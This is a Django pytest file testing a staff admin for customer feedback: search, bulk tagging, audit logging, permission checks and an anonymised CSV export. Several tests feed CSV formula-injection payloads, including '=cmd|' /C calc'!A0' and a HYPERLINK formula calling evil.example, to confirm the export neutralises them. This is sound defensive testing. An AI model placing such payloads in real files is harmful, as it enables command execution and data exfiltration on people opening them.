"""What staff do with the store of ideas: find, sort by tags, export without names."""

import csv
import io
import time
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import User
from audit.models import AuditEvent
from infacta.spreadsheets import MARK, harmless, lines_of_table
from support.models import Feedback, FeedbackTag
from tests.pages import words_of
from tests.staff import open_record, staff_log_in
from tests.support.store import written

pytestmark = pytest.mark.django_db
LIST = "/staff/support/feedback/"


@pytest.fixture
def staff(ada) -> Client:
    return staff_log_in(ada)


@pytest.fixture
def store(alice, bob, notebook) -> dict[str, Feedback]:
    """Three ideas: Alice's about Notebook, Bob's, and one without a name."""
    return {
        "alice": written("Print in landscape", user=alice, product=notebook, may_we_answer=True),
        "bob": written("A dark theme", user=bob),
        "nobody": written("Cheaper, please"),
    }


def act(client: Client, action: str, chosen: list[Feedback], **values: object):
    data = {"action": action, "_selected_action": [one.pk for one in chosen]} | values
    return client.post(LIST, data, follow=action != "export")


def test_staff_find_by_words_customer_tag_product_and_day(staff, store, alice, notebook):
    tag = FeedbackTag.objects.create(name="printing")
    store["alice"].tags.add(tag)

    def listed(**query: object) -> set[str]:
        return {one.text for one in staff.get(LIST, query).context["cl"].result_list}

    assert listed() == {"Print in landscape", "A dark theme", "Cheaper, please"}
    assert listed(q="dark") == {"A dark theme"}
    assert listed(q=alice.email_key) == listed(tags__id__exact=tag.pk) == listed(product__id__exact=notebook.pk) == {"Print in landscape"}
    assert listed(written_at__gte=timezone.now() + timedelta(days=1)) == set()
    assert staff.get(LIST, {"tags__id__exact": "x"}).status_code in (200, 302)


def test_tags_are_added_and_taken_away_from_many_at_once(staff, store):
    tag = FeedbackTag.objects.create(name="looks")
    answer = act(staff, "add_tag", list(store.values()), tag=tag.pk)
    assert "The tag was added." in answer.content.decode()
    act(staff, "add_tag", list(store.values()), tag=tag.pk)
    assert tag.feedback.count() == 3
    act(staff, "remove_tag", [store["bob"]], tag=tag.pk)
    assert tag.feedback.count() == 2
    assert "Choose a tag" in act(staff, "add_tag", list(store.values())).content.decode()
    for nothing in ("999", "x", "\x00"):
        assert act(staff, "add_tag", list(store.values()), tag=nothing).status_code == 200
    assert tag.feedback.count() == 2


def test_a_tag_on_many_at_once_is_recorded_for_each_customer_whose_idea_changed(staff, ada, store, alice, bob):
    tag = FeedbackTag.objects.create(name="looks")
    store["bob"].tags.add(tag)

    def changed() -> list[tuple[object, object, object]]:
        events = AuditEvent.objects.filter(kind="record.changed").order_by("pk")
        return [(event.user, event.actor, event.detail["fields"]) for event in events]

    act(staff, "add_tag", list(store.values()), tag=tag.pk)
    assert changed() == [(alice, ada, ["Tags"])]
    act(staff, "remove_tag", [store["bob"], store["nobody"]], tag=tag.pk)
    assert changed()[1:] == [(bob, ada, ["Tags"])]
    assert list(tag.feedback.all()) == [store["alice"]]


def test_on_its_page_the_tags_change_and_the_words_do_not(staff, store):
    tag = FeedbackTag.objects.create(name="looks")
    page = f"{LIST}{store['bob'].pk}/change/"
    staff.post(page, {"tags": [tag.pk], "text": "A light theme", "user": ""})
    kept = Feedback.objects.get(pk=store["bob"].pk)
    assert (kept.text, kept.user, [one.name for one in kept.tags.all()]) == ("A dark theme", store["bob"].user, ["looks"])
    assert staff.post(page, {"tags": ["x"]}).status_code == 200
    assert staff.post(f"{LIST}{store['bob'].pk}/delete/", {"post": "yes"}).status_code == 403


def test_a_tag_is_there_once_however_it_is_spelt(staff):
    for name in ("Looks", "looks"):
        answer = staff.post("/staff/support/feedbacktag/add/", {"name": name}, follow=True)
    assert "There is such a tag already." in words_of(answer.content.decode())
    assert FeedbackTag.objects.count() == 1


def rows_of(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_export_has_the_ideas_and_nobodys_name(staff, ada, store, alice):
    store["alice"].tags.add(FeedbackTag.objects.create(name="printing"), FeedbackTag.objects.create(name="paper"))
    Feedback.objects.filter(pk=store["bob"].pk).update(text='Zwei Zeilen:\n"grün", bitte')
    response = act(staff, "export", list(store.values()))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="feedback-{timezone.localdate():%Y-%m-%d}.csv"'
    header, *rows = rows_of(response)
    assert header == ["number", "day", "product", "tags", "may be answered", "text"]
    day = f"{timezone.localdate():%Y-%m-%d}"
    assert sorted(rows) == sorted(
        [
            [str(store["alice"].pk), day, "Notebook", "paper, printing", "yes", "Print in landscape"],
            [str(store["bob"].pk), day, "", "", "no", 'Zwei Zeilen:\n"grün", bitte'],
            [str(store["nobody"].pk), day, "", "", "no", "Cheaper, please"],
        ]
    )
    assert alice.email not in str(rows) + str(header)
    event = AuditEvent.objects.get(kind="feedback.exported")
    assert (event.actor, event.user, event.detail) == (ada, None, {"count": 3})


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\ta", "\ra", "  =1", "＝1", "\na"])
def test_no_cell_is_a_formula(cell):
    assert harmless(["a=1", cell]) == ["a=1", f"'{cell}"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("two lines\n=1+1", "two lines\n'=1+1"),
        ("a;;  @x;\t+1", "a;;  '@x;\t'+1"),
        ('a;"=1"', 'a;"\'=1"'),
        ("=1;=2", "'=1;'=2"),
        ("\n=1", "'\n'=1"),
        (" ;=1", " ;'=1"),
        ("a - b = c", "a - b = c"),
        ("well-known; e.g. a=b", "well-known; e.g. a=b"),
    ],
)
def test_no_cell_is_a_formula_where_semicolons_divide_them(cell, safe):
    assert harmless([cell]) == [safe]


def test_a_text_of_nothing_but_line_ends_costs_no_time():
    began = time.monotonic()
    harmless(["\n;" * 2_500] * 500)
    assert time.monotonic() - began < 1


def test_the_name_of_a_column_is_harmless_too():
    assert list(lines_of_table(["=cmd|'/c calc'!A1", "day"], [])) == [MARK + "'=cmd|'/c calc'!A1,day\r\n"]


def test_a_formula_as_an_idea_a_product_or_a_tag_is_harmless_in_the_file(staff, notebook):
    notebook.name = "=cmd|' /C calc'!A0"
    notebook.save()
    one = written('=HYPERLINK("http://evil.example?"&A1)', product=notebook)
    one.tags.add(FeedbackTag.objects.create(name="@tag"))
    assert rows_of(act(staff, "export", [one]))[1][2:] == ["'=cmd|' /C calc'!A0", "'@tag", "no", '\'=HYPERLINK("http://evil.example?"&A1)']


def test_a_long_export_comes_row_by_row_with_few_queries(staff, notebook):
    tag = FeedbackTag.objects.create(name="many")
    Feedback.objects.bulk_create(Feedback(text=f"idea {number}", submission=f"x{number}", product=notebook) for number in range(1200))
    tag.feedback.add(*Feedback.objects.all())
    response = act(staff, "export", [Feedback.objects.first()], select_across="1")
    with CaptureQueriesContext(connection) as captured:
        assert len(rows_of(response)) == 1201
    assert len(captured) <= 4, "one for the ideas, and one for the tags of each 500"


def test_support_reads_and_tags_what_a_customer_wrote_whose_record_is_open_and_does_not_export(sam, store, bob):
    client, tag = staff_log_in(sam), FeedbackTag.objects.create(name="looks")
    assert "A dark theme" not in client.get(LIST).content.decode()
    open_record(client, bob)
    page = client.get(LIST).content.decode()
    assert "A dark theme" in page
    assert "Export as CSV" not in page
    act(client, "add_tag", [store["bob"]], tag=tag.pk)
    assert tag.feedback.count() == 1
    assert not act(client, "export", [store["bob"]]).streaming
    assert not AuditEvent.objects.filter(kind="feedback.exported").exists()
    sam.user_permissions.add(Permission.objects.get(codename="export_feedback"))
    assert act(client, "export", [store["bob"]]).streaming


def test_staff_without_the_right_see_nothing(sam, store):
    sam.groups.clear()
    client = staff_log_in(sam)
    assert [client.get(page).status_code for page in (LIST, f"{LIST}{store['bob'].pk}/change/")] == [403, 404]


def test_the_list_takes_so_many_queries_however_long_it_is(staff, store, notebook):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert staff.get(LIST).status_code == 200
        return len(captured)

    tag = FeedbackTag.objects.create(name="looks")
    store["bob"].tags.add(tag)
    before = queries()
    for number in range(30):
        user = User.objects.create_user(f"u{number}@example.com")
        written(f"idea {number}", user=user, product=notebook).tags.add(tag)
    assert queries() == before == 11
